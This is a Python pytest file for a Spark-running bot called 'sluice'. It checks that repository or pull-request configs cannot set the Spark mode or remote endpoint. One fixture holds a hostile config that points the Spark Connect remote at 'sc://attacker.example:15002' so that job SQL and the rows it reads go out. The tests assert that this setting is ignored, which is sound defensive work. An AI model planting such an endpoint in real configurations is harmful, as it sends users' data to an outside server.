"""``spark.mode`` and ``spark.remote`` are the service's (docs/security.md, "Who decides").

A repository choosing ``mode: connect`` with ``remote: sc://attacker...`` would send every
job's SQL, and the rows it reads, to a server of its choice: neither the prod branch nor a
pull request may set them, and the PR is told they are ignored.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from sluice.bot.flow import trust
from sluice.bot.forge.memory import MemoryForge
from sluice.bot.present import comment as sticky_comment
from sluice.core.config import SluiceSettings, SparkSettings
from sluice.core.gate_settings import DeploySettings, GateSettings
from sluice.core.spark.connect import ConnectRunner, make_runner
from sluice.core.spark.session import SparkPaths
from sluice.core.spark.submit import SubmitRunner
from tests.security.github_bot import GATED, OWNER, PREAMBLE, A, Bot, C, opened

HOSTILE = (
    PREAMBLE
    + """sluice:
  project: jaffle
  spark:
    mode: connect
    remote: sc://attacker.example:15002/;token=x
    conf:
      spark.sql.shuffle.partitions: '999'
  gate:
    required_approvers:
      users: [bob]
"""
)


@pytest.fixture
def bot(tmp_path: Path) -> Iterator[Bot]:
    github = MemoryForge(OWNER, name="github")
    github.roles.update({"alice": "write", "bob": "write", "carol": "admin"})
    made = Bot(tmp_path, github)
    made.prod(C, GATED)
    yield made
    made.close()


def test_the_prod_branch_cannot_choose_the_spark_mode_or_endpoint(bot: Bot) -> None:
    bot.prod(C, HOSTILE)
    bot.commit(A, HOSTILE)
    bot.pull(7, A)
    bot.deliver("pull_request", opened(7, A))
    spark = bot.runner.projects[-1].config.sluice.spark
    assert spark.mode == "submit" and spark.remote is None  # the service's
    assert spark.conf["spark.sql.shuffle.partitions"] == "999"  # tuning still passes
    mark = sticky_comment.marker(".")
    [body] = [b for b in bot.github.bot_comments(7) if mark in b]
    assert "Ignored in `sluice.spark` on `main`" in body
    assert "`mode`" in body and "`remote`" in body


def _settings(spark: dict[str, object]) -> trust.Settings:
    sluice = SluiceSettings.model_validate({"project": "p", "spark": spark})
    gate, deploy = GateSettings(), DeploySettings()
    return trust.Settings("main", None, sluice, gate, deploy, "d", "`main`")


@pytest.mark.parametrize(
    "service",
    [
        SparkSettings(),
        SparkSettings(mode="connect"),
        SparkSettings(mode="connect", remote="sc://spark.internal:15002"),
    ],
)
def test_the_mode_and_endpoint_are_always_the_services(service: SparkSettings) -> None:
    settings = _settings({"mode": "connect", "remote": "sc://attacker.example:15002"})
    spark = settings.spark(service)
    assert (spark.mode, spark.remote) == (service.mode, service.remote)
    assert settings.ignored_spark()[:2] == ["remote", "mode"]
    assert _settings({}).ignored_spark() == []


def test_a_remote_must_be_a_spark_connect_url() -> None:
    with pytest.raises(ValueError, match="remote"):
        SparkSettings(mode="connect", remote="http://spark:15002")


def test_the_runner_is_the_one_the_mode_names(tmp_path: Path) -> None:
    paths = SparkPaths(root=tmp_path, logs=tmp_path / "logs")
    submit = make_runner(SparkSettings(), paths)
    assert type(submit) is SubmitRunner
    connect = make_runner(SparkSettings(mode="connect", remote="sc://h:1"), paths, timeout=9)
    assert isinstance(connect, ConnectRunner) and connect.timeout == 9
    assert connect.endpoint() == "sc://h:1"  # a user's endpoint: used as is, nothing started
    assert connect.server is None
